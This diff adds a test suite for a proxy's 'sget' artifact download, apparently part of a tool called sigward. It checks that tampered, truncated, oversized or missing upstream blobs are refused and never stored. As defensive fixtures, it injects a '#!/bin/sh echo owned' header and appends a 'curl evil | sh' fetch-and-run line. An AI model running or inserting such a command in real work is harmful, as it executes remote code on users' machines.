@@ -1,0 +1,165 @@
+// sget against an upstream that misbehaves: wrong bytes, a body cut short, more bytes than declared, a missing blob,
+// a full disk; and many clients for one blob while its download is held open (one upstream GET, a client that hangs
+// up does not cancel it). In every failure nothing of the artifact reaches the client and the store stays clean.
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { readdirSync } from 'node:fs';
+import { request as httpRequest } from 'node:http';
+import { join } from 'node:path';
+import { serveBlob, serveManifest, sha256, startFakeUpstream, type FakeHandler, type FakeUpstream } from '../helpers/fake-upstream.ts';
+import { startSigward, type RunningSigward } from '../helpers/sigward.ts';
+import { ociErrorOf, rawGet } from '../helpers/raw-http.ts';
+import { removeTempDir, tempDir, waitFor } from '../helpers/proc.ts';
+
+const OCI_MANIFEST = 'application/vnd.oci.image.manifest.v1+json';
+
+function bytes(seed: string, size: number): Buffer {
+  const out = Buffer.alloc(size);
+  for (let at = 0, n = 0; at < size; n++) at += createHash('sha256').update(`${seed}/${n}`).digest().copy(out, at);
+  return out;
+}
+
+/** A one-file artifact whose blob the test scripts with `blob` (default: served honestly). */
+function host(fake: FakeUpstream, repo: string, data: Buffer, blob?: FakeHandler): { manifest: string; file: string; blobPath: string } {
+  const config = Buffer.from('{}');
+  const m = Buffer.from(JSON.stringify({
+    schemaVersion: 2,
+    mediaType: OCI_MANIFEST,
+    config: { mediaType: 'application/vnd.oci.empty.v1+json', digest: sha256(config), size: 2 },
+    layers: [{ mediaType: 'application/x-sh', digest: sha256(data), size: data.length, annotations: { 'org.opencontainers.image.title': 'install.sh' } }],
+  }));
+  const blobPath = `/v2/${repo}/blobs/${sha256(data)}`;
+  fake.route(`/v2/${repo}/manifests/${sha256(m)}`, (req, res) => serveManifest(res, m, OCI_MANIFEST, req.method));
+  fake.route(blobPath, blob ?? ((_req, res) => serveBlob(res, data)));
+  return { manifest: sha256(m), file: sha256(data), blobPath };
+}
+
+describe('sget with a faulty upstream', () => {
+  let fake: FakeUpstream;
+  let sw: RunningSigward;
+  let full: RunningSigward;
+  let cacheDir: string;
+  let fullDir: string;
+  const config = (dir: string) => ({
+    upstreams: [{ host: 'example.test', url: fake.url, retries: 0 }],
+    cache: { dir },
+    policy: { default: 'deny', policies: [{ name: 'files', match: ['example.test/files/*'], allow: 'unsigned' }] },
+  });
+  const storeFiles = (dir = cacheDir) => ({
+    blobs: readdirSync(join(dir, 'sget', 'blobs')),
+    tmp: readdirSync(join(dir, 'sget', 'tmp')),
+  });
+
+  before(async () => {
+    fake = await startFakeUpstream();
+    cacheDir = tempDir('sget-faults');
+    fullDir = tempDir('sget-full');
+    sw = await startSigward(config(cacheDir));
+    full = await startSigward(config(fullDir), { sgetFreeBytes: async () => 10 * 1024 * 1024 });
+  });
+  after(async () => {
+    await sw?.stop();
+    await full?.stop();
+    await fake?.stop();
+    for (const d of [cacheDir, fullDir]) if (d) removeTempDir(d);
+  });
+
+  const assertNothingServed = (r: { body: Buffer }, data: Buffer) => {
+    assert.ok(ociErrorOf(r.body), `an OCI error body, got ${r.body.length} bytes`);
+    assert.equal(r.body.indexOf(data.subarray(0, 32)), -1);
+    assert.deepEqual(storeFiles(), { blobs: [], tmp: [] });
+  };
+
+  test('wrong bytes: 502, nothing served or stored; the failure is not cached', async () => {
+    const data = bytes('wrong', 300_000);
+    const evil = Buffer.from(data);
+    evil.write('#!/bin/sh\necho owned\n', 0);
+    const a = host(fake, 'files/wrong', data, (_req, res) => serveBlob(res, evil, { digest: sha256(data) }));
+    for (let i = 1; i <= 2; i++) {
+      const r = await rawGet(`${sw.url}/sget/example.test/files/wrong@${a.manifest}`);
+      assert.equal(r.status, 502);
+      assert.equal(ociErrorOf(r.body)?.code, 'DIGEST_INVALID');
+      assert.match(ociErrorOf(r.body)?.message ?? '', /hash to sha256:[0-9a-f]{64}; nothing was served/);
+      assertNothingServed(r, evil);
+      assert.equal(fake.hits(a.blobPath), i);
+    }
+  });
+
+  test('a body cut short: an error, no partial file left behind', async () => {
+    const data = bytes('short', 300_000);
+    const a = host(fake, 'files/short', data, (_req, res) => {
+      res.writeHead(200, { 'Content-Type': 'application/octet-stream', 'Content-Length': String(data.length) });
+      res.write(data.subarray(0, 100_000), () => res.destroy());
+    });
+    const r = await rawGet(`${sw.url}/sget/example.test/files/short@${a.manifest}`);
+    assert.ok(r.status === 502 || r.status === 503, `status ${r.status}`);
+    assert.match(ociErrorOf(r.body)?.message ?? '', /after \d+ bytes|of the 300000 bytes/);
+    assertNothingServed(r, data);
+  });
+
+  test('more bytes than the manifest declares (no Content-Length): refused', async () => {
+    const data = bytes('long', 10_000);
+    const a = host(fake, 'files/long', data, (_req, res) => {
+      res.writeHead(200, { 'Content-Type': 'application/octet-stream' }); // chunked
+      res.end(Buffer.concat([data, Buffer.from('\ncurl evil | sh\n')]));
+    });
+    const r = await rawGet(`${sw.url}/sget/example.test/files/long@${a.manifest}`);
+    assert.equal(r.status, 502);
+    assert.match(ociErrorOf(r.body)?.message ?? '', /more than the 10000 bytes/);
+    assertNothingServed(r, data);
+  });
+
+  test('a blob the upstream does not have: 404 BLOB_UNKNOWN', async () => {
+    const data = bytes('missing', 1000);
+    const a = host(fake, 'files/missing', data);
+    fake.route(a.blobPath, (_req, res) => {
+      res.writeHead(404, { 'Content-Type': 'application/json' });
+      res.end(JSON.stringify({ errors: [{ code: 'BLOB_UNKNOWN', message: 'blob unknown to registry' }] }));
+    });
+    const r = await rawGet(`${sw.url}/sget/example.test/files/missing@${a.manifest}`);
+    assert.equal(r.status, 404);
+    assert.equal(ociErrorOf(r.body)?.code, 'BLOB_UNKNOWN');
+    assertNothingServed(r, data);
+  });
+
+  test('a full disk: 503 before the download starts, no temporary file', async () => {
+    const data = bytes('full', 20_000);
+    const a = host(fake, 'files/full', data);
+    const r = await rawGet(`${full.url}/sget/example.test/files/full@${a.manifest}`);
+    assert.equal(r.status, 503);
+    assert.match(ociErrorOf(r.body)?.message ?? '', /has 10485760 bytes free/);
+    assert.match(r.reason, /disk full/);
+    assert.ok(r.headers['retry-after']);
+    assert.equal(fake.hits(a.blobPath), 0);
+    assert.deepEqual(storeFiles(fullDir), { blobs: [], tmp: [] });
+  });
+
+  test('concurrent clients share one upstream download; one that hangs up does not cancel it', async () => {
+    const data = bytes('shared', 2 * 1024 * 1024);
+    let release!: () => void;
+    const held = new Promise<void>((r) => (release = r));
+    const a = host(fake, 'files/shared', data, (_req, res) => {
+      res.writeHead(200, { 'Content-Type': 'application/octet-stream', 'Content-Length': String(data.length) });
+      res.write(data.subarray(0, 1024 * 1024));
+      void held.then(() => res.end(data.subarray(1024 * 1024)));
+    });
+    const url = `${sw.url}/sget/example.test/files/shared@${a.manifest}`;
+    // The first client starts the download and hangs up while it is held half-way.
+    const quitter = httpRequest(url, { agent: false });
+    quitter.on('error', () => undefined);
+    quitter.end();
+    await waitFor(async () => fake.hits(a.blobPath) === 1, 'the upstream blob GET');
+    const others = Array.from({ length: 5 }, () => rawGet(url, { timeoutMs: 60_000 }));
+    await new Promise((r) => setTimeout(r, 200)); // sequencing only: let the others join while the download is held
+    quitter.destroy();
+    await new Promise((r) => setTimeout(r, 100));
+    release();
+    for (const r of await Promise.all(others)) {
+      assert.equal(r.status, 200);
+      assert.ok(r.body.equals(data));
+    }
+    assert.equal(fake.hits(a.blobPath), 1);
+    assert.deepEqual(storeFiles().tmp, []);
+  });
+});
